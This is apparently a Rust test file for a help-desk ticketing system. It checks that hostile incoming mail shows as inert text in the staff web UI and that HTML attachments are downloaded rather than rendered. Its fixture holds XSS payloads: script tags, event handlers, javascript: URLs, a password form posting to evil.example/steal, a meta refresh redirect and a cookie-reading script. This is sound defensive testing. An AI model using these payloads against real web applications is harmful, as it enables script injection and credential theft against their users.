//! Mail is hostile input: a Subject, a From name and an HTML body full of scripts, event
//! handlers and `javascript:` links must reach the staff web UI as inert text (issue 16).

use crate::harness::*;
use crate::web::*;

/// A message whose every shown part tries to run script in a staff member's browser.
fn hostile_mail() -> Vec<u8> {
    format!(
        "From: \"<script>alert('from')</script><img src=x onerror=alert(9)>\" <mallory@example.net>\n\
         To: help@tickets.test\n\
         Subject: <script>alert('subject')</script><img src=x onerror=alert(1)> zqhostile\n\
         Message-ID: <{id}>\n\
         MIME-Version: 1.0\n\
         Content-Type: text/html; charset=utf-8\n\
         \n\
         <html><head><script>alert('head')</script></head><body>\n\
         <p>Hello <a href=\"javascript:alert(2)\">click here</a> please.</p>\n\
         <script>alert('body')</script>\n\
         <img src=\"x\" onerror=\"alert(3)\">\n\
         <div onmouseover=\"alert(4)\">hover me</div>\n\
         <iframe src=\"javascript:alert(5)\"></iframe>\n\
         <form action=\"javascript:alert(6)\"><button formaction=\"javascript:alert(7)\">go</button></form>\n\
         <svg onload=\"alert(8)\"></svg>\n\
         <img src=\"http://tracker.example/pixel.gif\">\n\
         <form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"></form>\n\
         <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\n\
         <base href=\"https://evil.example/\"><style>body {{ display: none }}</style>\n\
         <p><a href=\"https://example.org/manual\">the manual</a></p>\n\
         </body></html>\n",
        id = message_id()
    )
    .into_bytes()
}

/// Asserts nothing on the page would run: the only scripts are the UI's own files, no
/// tag has an event handler, no link or form goes to `javascript:`, no frame or SVG
/// came from the mail.
fn assert_inert(what: &str, answer: &Answer) {
    assert_eq!(answer.status, 200, "{what}: {answer:?}");
    let page = answer.page();
    for tag in &page.tags {
        if tag.name == "script" {
            let src = tag.attr("src").unwrap_or_default();
            assert!(
                src.starts_with("/static/"),
                "{what}: a script that is not ours: {tag:?}"
            );
        }
        for (name, value) in &tag.attrs {
            assert!(!name.starts_with("on"), "{what}: an event handler: {tag:?}");
            let value = value.trim().to_ascii_lowercase();
            assert!(!value.starts_with("javascript:"), "{what}: a javascript: URL: {tag:?}");
        }
        assert!(
            !["iframe", "svg", "object", "embed"].contains(&tag.name.as_str()),
            "{what}: {tag:?}"
        );
        assert!(tag.attr("src") != Some("x"), "{what}: the mail's <img>: {tag:?}");
    }
}

#[test]
fn hostile_mail_renders_inert_on_home_the_ticket_its_quote_and_search() {
    let d = web_daemon();
    d.web_staff("sam@tickets.test");
    d.deliver("general", &hostile_mail());
    let t = d.show(1);
    let create = t["transactions"][0]["id"].as_i64().expect("the Create transaction");
    let mut sam = Web::login(&d, "sam@tickets.test");

    let home = sam.get("/");
    assert_inert("home", &home);
    assert!(section_rows(&home.body, "unowned").contains(&1), "{}", home.body);

    let ticket = sam.get("/ticket/1");
    assert_inert("ticket", &ticket);
    let quote = sam.get(&format!("/ticket/1/update?action=correspond&quote={create}"));
    assert_inert("update form with a quote", &quote);
    let search = sam.get("/search?q=Subject%20LIKE%20%27zqhostile%27");
    assert_inert("search results", &search);
    assert_eq!(search.page().ticket_rows(), [1], "{}", search.body);

    // the subject is shown, as text: escaped in the HTML, whole in what a reader sees
    for (what, answer) in [("home", &home), ("ticket", &ticket), ("search", &search)] {
        assert!(
            answer.body.contains("&lt;script&gt;"),
            "{what}: not escaped:\n{}",
            answer.body
        );
        assert!(
            answer.page().text.contains("<script>alert('subject')</script>"),
            "{what}: the subject is not shown as text:\n{}",
            answer.body
        );
    }
    // the HTML body's words survive as text; its link's target does not
    let text = ticket.page().text;
    assert!(text.contains("click here"), "{}", ticket.body);
    assert!(text.contains("hover me"), "{}", ticket.body);
    assert!(quote.page().text.contains("> "), "{}", quote.body);
    // the HTML part on a page of its own: cleaned markup, nothing that acts
    let link = ticket
        .page()
        .tags("a")
        .into_iter()
        .find(|a| a.has_class("html"))
        .map(|a| a.attr("href").unwrap().to_string())
        .expect("a.html: the message's HTML on a page of its own");
    let shown = sam.get(&link);
    assert_inert("the HTML part", &shown);
    let mail = element_with(&shown.body, "class=\"html-mail\"");
    assert!(
        mail.text.contains("click here") && mail.text.contains("hover me"),
        "{}",
        shown.body
    );
    for tag in &mail.tags {
        assert!(
            !["form", "input", "button", "meta", "base", "style", "link", "script"].contains(&tag.name.as_str()),
            "the HTML part keeps {tag:?}"
        );
        if tag.name == "img" {
            let src = tag.attr("src").unwrap_or_default();
            assert!(!src.contains("tracker.example"), "a remote image: {tag:?}");
        }
    }
    let manual = mail
        .find("a", "href", "https://example.org/manual")
        .expect("the plain link stays");
    assert!(
        manual.attr("rel").unwrap_or_default().contains("noreferrer"),
        "{manual:?}"
    );
    // the From name, where the ticket page shows it, is text too
    if text.contains("alert('from')") {
        assert!(text.contains("<script>alert('from')</script>"), "{}", ticket.body);
    }
}

#[test]
fn an_html_attachment_is_downloaded_not_shown_as_our_page() {
    let d = web_daemon();
    d.web_staff("sam@tickets.test");
    let message = format!(
        "From: mallory@example.net\nTo: help@tickets.test\nSubject: invoice\nMessage-ID: <{id}>\n\
         MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"b\"\n\n\
         --b\nContent-Type: text/plain\n\nSee the invoice.\n\
         --b\nContent-Type: text/html; name=\"invoice.html\"\n\
         Content-Disposition: inline; filename=\"invoice.html\"\n\n\
         <html><body><script>alert(document.cookie)</script>pay here</body></html>\n\
         --b--\n",
        id = message_id()
    );
    d.deliver("general", message.as_bytes());
    let mut sam = Web::login(&d, "sam@tickets.test");
    let ticket = sam.get("/ticket/1");
    assert_inert("ticket with an HTML attachment", &ticket);
    let page = ticket.page();
    let mut checked = 0;
    for link in page
        .tags("a")
        .into_iter()
        .filter(|a| a.has_class("attachment") || a.has_class("raw"))
    {
        let href = link.attr("href").unwrap();
        let answer = sam.get(href);
        assert_eq!(answer.status, 200, "{href}: {answer:?}");
        let content_type = answer.header("content-type").unwrap_or_default().to_ascii_lowercase();
        let disposition = answer
            .header("content-disposition")
            .unwrap_or_default()
            .to_ascii_lowercase();
        assert!(
            disposition.starts_with("attachment") || !content_type.contains("html"),
            "{href} would run the mail's HTML on our origin: {answer:?}"
        );
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{href}");
        checked += 1;
    }
    assert!(
        checked >= 2,
        "no a.attachment or a.raw on the ticket page:\n{}",
        ticket.body
    );
}
